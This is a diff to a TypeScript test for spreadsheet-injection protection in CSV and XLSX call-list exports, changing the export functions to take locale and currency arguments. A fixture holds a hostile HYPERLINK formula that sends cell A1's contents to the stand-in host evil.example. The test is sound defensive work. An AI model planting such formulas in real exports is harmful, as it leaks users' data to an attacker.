@@ -17,7 +17,6 @@ import { spreadsheetSafe } from '../../src/db/spreadsheet-text.ts';
 import { toCsv } from '../../src/db/writers.ts';
 import { sendTable } from '../../src/api/tabular.ts';
 import { callListCsv, callListXlsx } from '../../src/risk/call-list-export.ts';
-import { csvDialect } from '../../src/locale/formats.ts';
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Clic")';
 const PHONE = '+52 55 1234 5678';
@@ -52,7 +51,7 @@ describe('the call list (CLI and dashboard export)', () => {
   const rows = [{ rank: 1, customer_id: '-C9', customer_name: HOSTILE, phone: PHONE, email: '@x.example', open_balance: '-12.50' }];
 
   test('CSV: the phone as written; the name, an id like -C9 and an email starting with @ prefixed', () => {
-    const [header, line] = callListCsv(rows, csvDialect('es-CO')).replace('\uFEFF', '').split('\r\n');
+    const [header, line] = callListCsv(rows, 'es-CO', 'COP').replace('\uFEFF', '').split('\r\n');
     const cells = Object.fromEntries(header.split(';').map((c, i) => [c, line.split(';')[i]]));
     expect(cells.phone).toBe(PHONE);
     // '-C9' would be a formula (minus cell C9): only XLSX can keep it unprefixed, as a text cell.
@@ -63,7 +62,7 @@ describe('the call list (CLI and dashboard export)', () => {
   });
 
   test('XLSX: text cells without an apostrophe, and no formula anywhere', async () => {
-    const book = await callListXlsx(rows);
+    const book = await callListXlsx(rows, 'es-CO', 'COP');
     const ws = await sheet(book);
     const col = (name: string) => (ws.getRow(1).values as string[]).indexOf(name);
     const cell = (name: string) => ws.getRow(2).getCell(col(name));
